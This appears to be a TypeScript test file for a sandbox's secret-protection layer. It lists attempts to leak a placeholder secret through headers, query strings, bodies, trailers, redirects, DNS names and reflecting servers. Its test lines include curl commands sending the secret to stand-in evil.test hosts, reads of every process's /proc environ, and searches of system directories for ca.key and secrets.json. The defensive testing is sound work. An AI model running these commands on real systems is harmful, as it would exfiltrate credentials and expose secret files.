/**
 * Getting at a secret's value, or getting it to somebody else: other hosts, other parts of a request, and servers that
 * send back what they were sent. `$KEY` is the placeholder.
 */
import { attemptsOf, holdsValueElsewhere } from '../attempt.ts';
import type { Seen } from '../world/events.ts';
import { secretValues } from '../secrets.ts';

const secret = attemptsOf('secret');
const reflection = attemptsOf('reflection');

/** The placeholder, too, is kept from readable traffic to others. */
const elsewhere = (event: Seen): boolean =>
  event.kind === 'request' && /squash-[a-z]+-placeholder|real-[a-z]+-value/.test(JSON.stringify(event));
const outOfPlace = (event: Seen): boolean =>
  event.kind === 'request' && holdsValueElsewhere(event, secretValues);
const wide = { control: 'wide', through: outOfPlace } as const;
const other = { control: 'open', through: elsewhere } as const;
const bearer = '-H "Authorization: Bearer $KEY"';

export const secretAttempts = [
  secret('secret-header-elsewhere', `curl -sS ${bearer} http://www.allowed.test/x`, other),
  secret('secret-header-elsewhere-tls', `curl -sS ${bearer} https://rules.test/public/x`, other),
  secret(
    'secret-header-elsewhere-h2',
    `node $T/h2.mjs rules.test rules.test - /public/x "x-key=$KEY"`,
    other,
  ),
  secret('secret-basic-elsewhere', 'curl -sS -u "user:$KEY" http://www.allowed.test/x', {
    control: 'open',
    through: (event) => event.kind === 'request' && event.headers['authorization'] !== undefined,
  }),
  secret('secret-query-elsewhere', 'curl -sS "http://www.allowed.test/x?k=$KEY"', other),
  secret('secret-path-elsewhere', 'curl -sS "http://www.allowed.test/$KEY"', other),
  secret('secret-body-elsewhere', 'curl -sS -d "k=$KEY" http://www.allowed.test/x', other),
  secret(
    'secret-upload-elsewhere',
    '(head -c 300000 /dev/zero | tr "\\0" a; echo "$KEY") | curl -sS -T - http://www.allowed.test/upload',
    {
      control: 'open',
      // The end of a body this long is not kept: whole or not is what counts.
      through: (event) => event.kind === 'request' && event.bodyBytes > 300_000,
    },
  ),
  secret('secret-cookie-elsewhere', 'curl -sS -b "k=$KEY" http://www.allowed.test/x', other),
  secret('secret-header-name-elsewhere', 'curl -sS -H "$KEY: x" http://www.allowed.test/x', other),
  secret('secret-method-elsewhere', 'curl -sS --max-time 3 -X "$KEY" http://www.allowed.test:7777/x', {
    control: 'open',
    through: (event) => event.kind === 'bytes' && event.text.includes('squash-strict'),
  }),
  secret(
    'secret-websocket-elsewhere',
    `curl -sS --http1.1 --max-time 3 ${bearer} -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' http://www.allowed.test/ws`,
    other,
  ),
  secret(
    'secret-redirect-elsewhere',
    `curl -sSL --location-trusted ${bearer} 'https://secret.allowed.test/redirect?to=http://www.allowed.test/x'`,
    {
      control: 'open',
      through: (event) =>
        elsewhere(event) && event.kind === 'request' && event.authority === 'www.allowed.test',
    },
  ),
  secret(
    'secret-redirect-to-refused',
    `curl -sSL --location-trusted ${bearer} 'https://secret.allowed.test/redirect?to=http://evil.test/x'`,
  ),
  secret('secret-on-other-port', `curl -sS ${bearer} http://ported-secret.allowed.test:7777/x`, {
    control: 'open',
    through: (event) => event.kind === 'bytes' && /real-|squash-/.test(event.text),
  }),
  secret('secret-in-query', 'curl -sS "https://secret.allowed.test/x?k=$KEY"', wide),
  secret('secret-in-path', 'curl -sS "https://secret.allowed.test/$KEY/x"', wide),
  secret('secret-in-path-encoded', 'curl -sS "https://secret.allowed.test/x?k=%73${KEY#s}"', {
    control: { none: 'a placeholder that somebody escaped is put in nowhere' },
    through: outOfPlace,
  }),
  secret('secret-in-body', 'curl -sS -d "k=$KEY" https://secret.allowed.test/x', wide),
  secret('secret-in-chunked-body', 'echo "$KEY" | curl -sS -T - https://secret.allowed.test/upload', wide),
  secret(
    'secret-in-json-body',
    `curl -sS -H 'content-type: application/json' -d "{\\"k\\":\\"$KEY\\"}" https://secret.allowed.test/x`,
    wide,
  ),
  secret('secret-in-h2-path', 'node $T/h2.mjs secret.allowed.test secret.allowed.test - "/x?k=$KEY"', wide),
  secret(
    'secret-trailer-elsewhere',
    `python3 $T/attack.py tcp www.allowed.test 80 "POST /x HTTP/1.1\\r\\nHost: www.allowed.test\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-key\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-key: $KEY\\r\\n\\r\\n"`,
    other,
  ),
  secret('secret-in-authority', 'node $T/h2.mjs secret.allowed.test "$KEY.evil.test" - /x', {
    control: { none: 'no surface of a secret is the authority' },
    through: outOfPlace,
  }),
  secret('secret-in-host', 'curl -sS -H "Host: $KEY" http://secret.allowed.test/leak'),
  secret('secret-in-name', 'curl -sS "http://$KEY.leak.evil.test/"'),
  secret(
    'secret-of-another-sandbox',
    'curl -sS -H "Authorization: Bearer $OTHER" https://secret.allowed.test/x',
    {
      control: 'wide',
      through: (event) =>
        event.kind === 'request' && JSON.stringify(event.headers).includes('real-wide-value'),
    },
  ),
  secret('secret-without-tls-verification', `curl -ksS ${bearer} https://bad-cert.allowed.test/x`, {
    control: 'open',
    through: (event) => event.kind === 'request',
  }),
  secret('secret-in-the-environment', 'env; cat /proc/[0-9]*/environ | tr "\\0" "\\n"', {
    control: { none: 'shown by the placeholder, which the same commands find' },
  }),
  secret(
    'secret-in-files',
    'grep -rlF real-strict /etc /run /var /tmp /root /home /usr/local /opt 2>/dev/null | sed "s/^/breach: /"',
    {
      control: { none: 'shown by the placeholder, which is in the environment only' },
    },
  ),
  secret(
    'secret-in-the-certificate-key',
    'find ${RUN%/run} /root /etc /home /run /var /usr/local -xdev -name ca.key -o -name secrets.json 2>/dev/null | sed "s/^/breach: /"',
    {
      control: 'machine',
    },
  ),

  ...[
    'plain',
    'json',
    'url',
    'base64',
    'base64url',
    'header',
    'cookie',
    'gzip',
    'br',
    'deflate',
    'trailer',
    'bytewise',
    'early',
    'status',
    'untyped',
  ].map((how) =>
    reflection(
      `reflection-${how}`,
      `curl -sS -i --http1.1 --compressed ${bearer} 'https://secret.allowed.test/reflect?how=${how}'`,
    ),
  ),
  ...(['www.allowed.test', 'secret.allowed.test'] as const).map((host) =>
    reflection(
      `reflection-pace-${host.split('.')[0]}`,
      `python3 $T/attack.py pace ${host} 'real-strict' 'fake-strict'`,
      {
        control: {
          none: 'only what takes values out can tell them: `answer-filters.test.ts` shows the difference',
        },
      },
    ),
  ),
  reflection(
    'reflection-h2',
    `curl -sS -i --http2 ${bearer} 'https://secret.allowed.test/reflect?how=header'`,
  ),
  reflection(
    'reflection-h2-trailer',
    `curl -sS -i --http2 ${bearer} 'https://secret.allowed.test/reflect?how=trailer'`,
  ),
  reflection(
    'reflection-clear-text',
    `curl -sS -i ${bearer} 'http://secret.allowed.test/reflect?how=header'`,
  ),
  reflection(
    'reflection-uncompressed-by-us',
    `curl -sS --http1.1 -H 'Accept-Encoding: gzip' ${bearer} 'https://secret.allowed.test/reflect?how=gzip' | gunzip`,
  ),
  reflection(
    'reflection-unasked-coding',
    `curl -sS --http1.1 ${bearer} 'https://secret.allowed.test/reflect?how=gzip' | python3 -c 'import gzip,sys; d=sys.stdin.buffer.read(); print(gzip.decompress(d) if d[:2]==bytes([31,139]) else d)'`,
  ),
  reflection(
    'reflection-websocket',
    'python3 $T/client_websocket.py wss://secret.allowed.test/ws "Bearer $KEY"',
  ),
  reflection(
    'reflection-in-location',
    `curl -sS -i ${bearer} 'https://secret.allowed.test/redirect?to=x'; curl -sS -i -H "Authorization: Bearer $KEY" 'https://secret.allowed.test/reflect?how=cookie'`,
  ),
] as const;
